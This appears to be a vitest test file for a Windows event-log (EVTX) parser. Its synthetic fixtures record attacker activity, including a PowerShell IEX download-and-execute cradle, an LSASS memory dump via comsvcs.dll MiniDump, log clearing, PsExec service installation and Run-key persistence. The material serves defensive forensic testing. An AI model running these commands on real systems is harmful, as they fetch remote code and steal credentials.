import { describe, expect, it } from 'vitest';
import type { Datum, LogEvent } from '#main/parse/evtx-writer/log-event.ts';
import { writeLog } from '#main/parse/evtx-writer/log-writer.ts';
import { hex32, hex64 } from '#main/parse/evtx-writer/value.ts';
import { hasRealEvidence, realFile, realFiles } from '../real-evidence.ts';
import { collect } from './collect.ts';
import { readLog } from './read-log.ts';

/** Provider and channel of the logs that matter most. */
const LOGS = {
  Security: ['Microsoft-Windows-Security-Auditing', 'Security'],
  Eventlog: ['Microsoft-Windows-Eventlog', 'Security'],
  System: ['Service Control Manager', 'System'],
  Sysmon: ['Microsoft-Windows-Sysmon', 'Microsoft-Windows-Sysmon/Operational'],
  PowerShell: ['Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational'],
  Tasks: ['Microsoft-Windows-TaskScheduler', 'Microsoft-Windows-TaskScheduler/Operational'],
  Defender: [
    'Microsoft-Windows-Windows Defender',
    'Microsoft-Windows-Windows Defender/Operational',
  ],
} as const;
type LogName = keyof typeof LOGS;

const SUBJECT = { SubjectUserName: 'm.brandt', SubjectDomainName: 'ACME' };
const TARGET = { TargetUserName: 'svc-backup', TargetDomainName: 'ACME' };

interface Example {
  readonly log: LogName;
  readonly id: number;
  readonly data: { readonly [name: string]: Datum };
  readonly userData?: string;
  readonly message: string;
  /** Columns besides. */
  readonly columns: { readonly [column: string]: string };
}

const EXAMPLES: readonly Example[] = [
  {
    log: 'Security',
    id: 4624,
    data: {
      ...TARGET,
      LogonType: 10,
      IpAddress: '203.0.113.9',
      WorkstationName: 'WS-07',
      AuthenticationPackageName: 'Negotiate',
      ProcessName: 'C:\\Windows\\System32\\svchost.exe',
    },
    message:
      'ACME\\svc-backup logged on (logon type 10, remote desktop) from 203.0.113.9 with Negotiate by C:\\Windows\\System32\\svchost.exe',
    columns: {
      category: 'authentication',
      outcome: 'success',
      user: 'ACME\\svc-backup',
      sourceIp: '203.0.113.9',
      action: 'logged-in',
    },
  },
  {
    log: 'Security',
    id: 4624,
    data: {
      TargetUserName: 'SYSTEM',
      TargetDomainName: 'NT AUTHORITY',
      LogonType: 5,
      IpAddress: '-',
    },
    message: 'NT AUTHORITY\\SYSTEM logged on (logon type 5, service)',
    columns: { user: 'NT AUTHORITY\\SYSTEM' },
  },
  {
    log: 'Security',
    id: 4625,
    data: {
      TargetUserName: 'administrator',
      TargetDomainName: '',
      LogonType: 3,
      IpAddress: '::ffff:198.51.100.4',
      Status: hex32(0xc000_006d),
      SubStatus: hex32(0xc000_006a),
      FailureReason: '%%2313',
    },
    message:
      'administrator failed to log on (logon type 3, network) from 198.51.100.4: wrong password, 0xc000006a',
    columns: { outcome: 'failure', sourceIp: '198.51.100.4', action: 'logon-failed' },
  },
  {
    log: 'Security',
    id: 4688,
    data: {
      ...SUBJECT,
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'cmd.exe /c\r\n whoami',
      ParentProcessName: 'C:\\Windows\\explorer.exe',
      TargetUserName: '-',
      TargetDomainName: '-',
    },
    message:
      'ACME\\m.brandt started C:\\Windows\\System32\\cmd.exe: cmd.exe /c whoami (parent C:\\Windows\\explorer.exe)',
    columns: {
      category: 'process',
      user: 'ACME\\m.brandt',
      process: 'C:\\Windows\\System32\\cmd.exe',
      action: 'created-process',
    },
  },
  {
    log: 'Security',
    id: 4720,
    data: { ...SUBJECT, ...TARGET },
    message: 'ACME\\m.brandt created user account ACME\\svc-backup',
    columns: { category: 'iam', user: 'ACME\\m.brandt' },
  },
  {
    log: 'Security',
    id: 4732,
    data: {
      ...SUBJECT,
      MemberName: '-',
      MemberSid: 'S-1-5-21-1-2-3-1107',
      TargetUserName: 'Administrators',
      TargetDomainName: 'Builtin',
    },
    message: 'ACME\\m.brandt added S-1-5-21-1-2-3-1107 to local group Builtin\\Administrators',
    columns: { category: 'iam', action: 'added-member-to-group' },
  },
  {
    log: 'Security',
    id: 4672,
    data: { ...SUBJECT, PrivilegeList: 'SeDebugPrivilege\r\n\t\t\tSeBackupPrivilege' },
    message:
      'ACME\\m.brandt logged on with special privileges: SeDebugPrivilege, SeBackupPrivilege',
    columns: { action: 'logged-in-special' },
  },
  {
    log: 'Security',
    id: 4662,
    data: {
      ...SUBJECT,
      ObjectName: '%{c6faf700-bfe4-452a-a766-424f84c29583}',
      AccessList: '%%7688\r\n\t\t\t\t',
      Properties:
        '%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n',
    },
    message:
      'ACME\\m.brandt accessed directory object %{c6faf700-bfe4-452a-a766-424f84c29583}: control access, DS-Replication-Get-Changes-All, domainDNS',
    columns: { category: 'iam', action: 'directory-object-accessed' },
  },
  {
    log: 'Security',
    id: 4769,
    data: {
      ...TARGET,
      TargetUserName: 'm.brandt@ACME.EXAMPLE',
      ServiceName: 'MSSQL$',
      IpAddress: '::ffff:10.0.3.7',
      TicketEncryptionType: hex32(0x17),
      Status: hex32(0),
    },
    message: 'm.brandt@ACME.EXAMPLE requested a Kerberos ticket for MSSQL$ from 10.0.3.7 (RC4)',
    columns: { sourceIp: '10.0.3.7' },
  },
  {
    log: 'Eventlog',
    id: 1102,
    data: { ...SUBJECT },
    userData: 'LogFileCleared',
    message: 'ACME\\m.brandt cleared the Security log',
    columns: { user: 'ACME\\m.brandt' },
  },
  {
    log: 'System',
    id: 7045,
    data: {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
    message:
      'Service PSEXESVC installed: %SystemRoot%\\PSEXESVC.exe (user mode service, demand start) as LocalSystem',
    columns: { action: 'service-installed' },
  },
  {
    log: 'PowerShell',
    id: 4104,
    data: {
      MessageNumber: 1,
      MessageTotal: 2,
      ScriptBlockText: 'IEX (New-Object\r\n  Net.WebClient)\t.DownloadString("http://x")',
      ScriptBlockId: '7f3a',
      Path: '',
    },
    message:
      'PowerShell script block 1 of 2: IEX (New-Object Net.WebClient) .DownloadString("http://x")',
    columns: { category: 'process' },
  },
  {
    log: 'Sysmon',
    id: 1,
    data: {
      Image: 'C:\\Windows\\System32\\rundll32.exe',
      CommandLine: 'rundll32.exe comsvcs.dll, MiniDump 640 l.dmp full',
      User: 'ACME\\m.brandt',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    },
    message:
      'ACME\\m.brandt started C:\\Windows\\System32\\rundll32.exe: rundll32.exe comsvcs.dll, MiniDump 640 l.dmp full (parent C:\\Windows\\System32\\cmd.exe)',
    columns: { category: 'process', user: 'ACME\\m.brandt' },
  },
  {
    log: 'Sysmon',
    id: 3,
    data: {
      Image: 'C:\\Tools\\beacon.exe',
      User: 'ACME\\m.brandt',
      Protocol: 'tcp',
      Initiated: true,
      SourceIp: '10.0.3.7',
      SourcePort: 49_812,
      DestinationIp: '2001:db8::17',
      DestinationPort: 443,
      DestinationHostname: 'cdn.example.net',
    },
    message:
      'C:\\Tools\\beacon.exe connected (tcp) from 10.0.3.7 port 49812 to 2001:db8::17 port 443 (cdn.example.net)',
    columns: { category: 'network', sourceIp: '10.0.3.7', destinationIp: '2001:db8::17' },
  },
  {
    log: 'Sysmon',
    id: 3,
    data: {
      Image: 'System',
      Initiated: false,
      SourceIp: '10.0.3.7',
      SourcePort: 50_001,
      DestinationIp: '10.0.3.20',
      DestinationPort: 445,
    },
    message: 'System accepted a connection from 10.0.3.7 port 50001 to 10.0.3.20 port 445',
    columns: { category: 'network' },
  },
  {
    log: 'Sysmon',
    id: 11,
    data: {
      Image: 'C:\\Windows\\explorer.exe',
      TargetFilename: 'C:\\Users\\m.brandt\\Desktop\\invoice.iso',
      User: 'ACME\\m.brandt',
    },
    message: 'C:\\Windows\\explorer.exe created C:\\Users\\m.brandt\\Desktop\\invoice.iso',
    columns: { category: 'file', process: 'C:\\Windows\\explorer.exe' },
  },
  {
    log: 'Sysmon',
    id: 10,
    data: {
      SourceImage: 'C:\\Tools\\p.exe',
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: hex32(0x1410),
    },
    message: 'C:\\Tools\\p.exe opened C:\\Windows\\System32\\lsass.exe with access 0x1410',
    columns: { action: 'process-accessed' },
  },
  {
    log: 'Sysmon',
    id: 13,
    data: {
      Image: 'C:\\Windows\\regedit.exe',
      TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      Details: 'C:\\ProgramData\\upd.exe',
    },
    message:
      'C:\\Windows\\regedit.exe set HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd to C:\\ProgramData\\upd.exe',
    columns: { category: 'registry' },
  },
  {
    log: 'Tasks',
    id: 106,
    data: { TaskName: '\\Updater', UserContext: 'ACME\\m.brandt' },
    message: 'ACME\\m.brandt registered task \\Updater',
    columns: { user: 'ACME\\m.brandt' },
  },
];

const written = ({ log, id, data, userData }: Example): LogEvent => ({
  provider: LOGS[log][0],
  channel: LOGS[log][1],
  computer: 'WS-07.acme.example',
  eventId: id,
  keywords: 0x8020_0000_0000_0000n,
  time: 1_780_000_000_000_000_000n,
  data: Object.entries(data),
  ...(userData !== undefined && { userData: { element: userData } }),
});

describe('the message of an event', { timeout: 60_000 }, () => {
  it.each(EXAMPLES)('$log $id reads well', (example) => {
    const [row] = readLog(writeLog([written(example)])).live;
    expect(row?.message).toBe(example.message);
    expect(row).toMatchObject(example.columns);
  });

  it('of an unknown provider begins with its first values', () => {
    const [row] = readLog(
      writeLog([
        {
          ...written({ log: 'Tasks', id: 9, data: {}, message: '', columns: {} }),
          provider: 'Contoso-Agent',
          data: [
            ['Job', 'nightly'],
            ['Handle', hex64(0x1f4n)],
            [undefined, 'done\u001b[31m\u2028'],
          ],
        },
      ]),
    ).live;
    expect(row?.message).toBe('Contoso-Agent 9: Job nightly, Handle 0x1f4, done [31m');
  });
});

/** Ids whose events have all the fields that their messages name. */
const IMPORTANT: { readonly [provider: string]: readonly string[] } = {
  'Microsoft-Windows-Security-Auditing': ['4624', '4625', '4688', '4720', '4732', '4738', '4672'],
  'Microsoft-Windows-Eventlog': ['1102'],
  'Service Control Manager': ['7045', '7036', '7040'],
  'Microsoft-Windows-Sysmon': ['1', '3', '7', '10', '11', '12', '13', '17', '22'],
  'Microsoft-Windows-PowerShell': ['4104'],
};

describe.skipIf(!hasRealEvidence)('the message of a real event', { timeout: 60_000 }, () => {
  it('of an id that matters is whole, and names who and what', () => {
    const met = new Set<string>();
    const bad: string[] = [];
    for (const path of realFiles('.evtx'))
      for (const event of collect(realFile(path)).events) {
        if (event.recovered || event.provider === undefined || event.code === undefined) continue;
        if (IMPORTANT[event.provider]?.includes(event.code) !== true) continue;
        met.add(`${event.provider} ${event.code}`);
        // Sysmon itself writes <unknown process>.
        if (/(?<!<)\bunknown\b|\{@|^\s*$/.test(event.message) || event.message.length > 1500)
          bad.push(`${path}, ${event.provider} ${event.code}: ${event.message}`);
      }
    expect(bad).toEqual([]);
    const all = Object.entries(IMPORTANT).flatMap(([provider, codes]) =>
      codes.map((code) => `${provider} ${code}`),
    );
    expect([...met].toSorted()).toEqual(all.toSorted());
  });
});
